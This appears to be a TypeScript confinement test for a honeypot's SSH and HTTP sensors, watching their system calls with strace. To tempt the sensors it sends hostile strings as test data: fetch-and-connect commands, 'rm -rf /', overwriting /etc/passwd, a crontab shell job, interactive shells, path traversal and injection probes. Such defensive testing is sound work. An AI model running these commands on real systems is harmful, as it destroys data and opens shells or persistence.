import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import type { BenchRow } from '../measure.js'
import type { Print, ProofPart } from './proof-part.js'
import { NO_LIMITS, startProcess } from './sensor-under-test.js'

/** What the kernel was asked by a sensor's process while strangers were there. */
export interface Trace {
  /** Calls that were seen at all: none would mean that nobody looked. */
  readonly calls: number
  /** Sockets that were to be connected, or to be made for it. */
  readonly outward: readonly string[]
  /** Programs and processes; threads are none. */
  readonly programs: readonly string[]
  /** Files that were to be written outside of the spool. */
  readonly writes: readonly string[]
}

/** Why system calls cannot be watched here; null where they can. */
export function traceMissing(): string | null {
  if (spawnSync('strace', ['-V']).error !== undefined) return 'strace is not installed'
  const probe = spawnSync('strace', ['-f', '-e', 'trace=none', '/bin/true'])
  return probe.status === 0 ? null : 'this user may not trace'
}

/** Watches the system calls of a process and its threads while something is done. */
export async function traced(
  processId: number,
  spool: string,
  act: () => Promise<void>,
): Promise<Trace> {
  const folder = mkdtempSync(join(tmpdir(), 'phantomnet-trace-'))
  const log = join(folder, 'trace')
  try {
    const tracer = spawn(
      'strace',
      ['-f', '-y', '-p', String(processId), '-e', 'trace=network,process,%file', '-o', log],
      { stdio: ['ignore', 'ignore', 'pipe'] },
    )
    await attached(tracer)
    await act()
    await wait(300)
    tracer.kill('SIGINT')
    await once(tracer, 'exit')
    return readTrace(readFileSync(log, 'utf8'), spool)
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

async function attached(tracer: ChildProcess): Promise<void> {
  let said = ''
  tracer.stderr?.on('data', (bytes: Buffer) => (said += bytes.toString('utf8')))
  for (let i = 0; i < 400 && !said.includes('attached'); i++) await wait(25)
  if (!said.includes('attached')) throw new Error(`strace did not attach: ${said}`)
}

function readTrace(text: string, spool: string): Trace {
  const calls = text
    .split('\n')
    .map((line) => line.replace(/^\d+ +/, ''))
    .filter((line) => /^\w+\(/.test(line))
  return {
    calls: calls.length,
    outward: calls.filter((call) =>
      /^(?:connect|socket|socketpair|sendto\(.*sa_family)\(/.test(call),
    ),
    programs: calls.filter(
      (call) =>
        /^(?:execve|execveat|fork|vfork)\(/.test(call) ||
        (/^clone3?\(/.test(call) && !call.includes('CLONE_THREAD')),
    ),
    writes: calls.filter((call) => isWrite(call) && !isWithin(call, spool)),
  }
}

function isWrite(call: string): boolean {
  return (
    /^(?:mkdir|mkdirat|rename\w*|unlink\w*|rmdir|link\w*|symlink\w*|chmod|fchmodat|chown|mknod\w*|truncate|creat)\(/.test(
      call,
    ) ||
    (/^open(?:at2?)?\(/.test(call) && /O_WRONLY|O_RDWR|O_CREAT/.test(call))
  )
}

/** Paths are relative to the spool, where the process is; `-y` tells of descriptors where they lead. */
function isWithin(call: string, spool: string): boolean {
  const paths = [...call.matchAll(/"([^"]*)"/g)].map(([, path]) => path as string)
  return paths.every((path) =>
    path.startsWith('/') ? path.startsWith(`${spool}/`) : !path.includes('..'),
  )
}

/** The SSH sensor is asked for everything that would lead out; the kernel is not. */
export async function proveConfinement(print: Print): Promise<ProofPart> {
  const missing = traceMissing() ?? (hasClients() ? null : 'ssh or sshpass is not installed')
  if (missing !== null) return { rows: [], notRun: [`confinement: ${missing}`] }
  const rows: BenchRow[] = []
  for (const name of ['ssh', 'http'] as const) {
    const sensor = await startProcess(name, NO_LIMITS, { login: 'listed', credentials: ['root:x'] })
    try {
      const act = name === 'ssh' ? tempt : tease
      const trace = await traced(sensor.processId, sensor.spool, () => act(sensor.port))
      for (const call of [...trace.outward, ...trace.programs, ...trace.writes].slice(0, 20))
        print(`  ${name}: ${call}`)
      print(`${name}: ${trace.calls} system calls of network, processes and files watched`)
      const row = (what: string, value: number, bound: object): BenchRow => ({
        what: `confinement ${name}: ${what}`,
        value,
        unit: 'calls',
        peer: null,
        ...bound,
      })
      rows.push(
        row('watched', trace.calls, { at_least: 10 }),
        row('sockets outward', trace.outward.length, { at_most: 0 }),
        row('programs', trace.programs.length, { at_most: 0 }),
        row('writes outside the spool', trace.writes.length, { at_most: 0 }),
      )
    } finally {
      await sensor.stop()
    }
  }
  return { rows, notRun: [] }
}

function hasClients(): boolean {
  return ['ssh', 'sshpass', 'scp', 'curl'].every((tool) => spawnSync('which', [tool]).status === 0)
}

const OPTIONS = [
  '-o',
  'StrictHostKeyChecking=no',
  '-o',
  'UserKnownHostsFile=/dev/null',
  '-F',
  '/dev/null',
]

const TEMPTATIONS = [
  'wget http://127.0.0.1:9/x; curl http://192.0.2.1/; nc 127.0.0.1 9; ssh 127.0.0.1; ping 192.0.2.1',
  'echo x > /etc/passwd; rm -rf /; mkdir /tmp/a; echo "* * * * * sh" | crontab -; cat ../../../../etc/passwd',
  'perl -e "system(1)"; python3 -c "import os"; bash -c "exec /bin/sh"; /bin/sh -i; $(reboot)',
]

async function tempt(port: number): Promise<void> {
  for (const command of TEMPTATIONS)
    await run('ssh', ['-p', String(port), 'root@127.0.0.1', command])
  await run('ssh', ['-p', String(port), '-W', '127.0.0.1:9', 'root@127.0.0.1'])
  await run('scp', ['-O', '-P', String(port), '/etc/hostname', 'root@127.0.0.1:/etc/cron.d/x'])
  await run('scp', ['-s', '-P', String(port), '/etc/hostname', 'root@127.0.0.1:../../../../tmp/x'])
}

/** Runs a client of OpenSSH as somebody who got in. */
export function run(tool: string, words: readonly string[]): Promise<void> {
  return new Promise((resolve) => {
    const child = spawn('sshpass', ['-p', 'x', tool, ...OPTIONS, ...words], { stdio: 'ignore' })
    child.on('error', () => resolve())
    child.on('exit', () => resolve())
  })
}

async function tease(port: number): Promise<void> {
  for (const words of [
    ['-d', 'log=a&pwd=b', '/wp-login.php'],
    ['-T', '/etc/hostname', '/../../../../tmp/x'],
    ['--path-as-is', '/index.php?page=http://127.0.0.1:9/x&cmd=%3Bid'],
    ['-H', 'Expect: 100-continue', '-F', 'file=@/etc/hostname', '/admin/upload.php'],
  ]) {
    const path = words.at(-1) as string
    const child = spawn(
      'curl',
      ['-s', '-m', '5', ...words.slice(0, -1), `http://127.0.0.1:${port}${path}`],
      {
        stdio: 'ignore',
      },
    )
    await once(child, 'exit')
  }
}
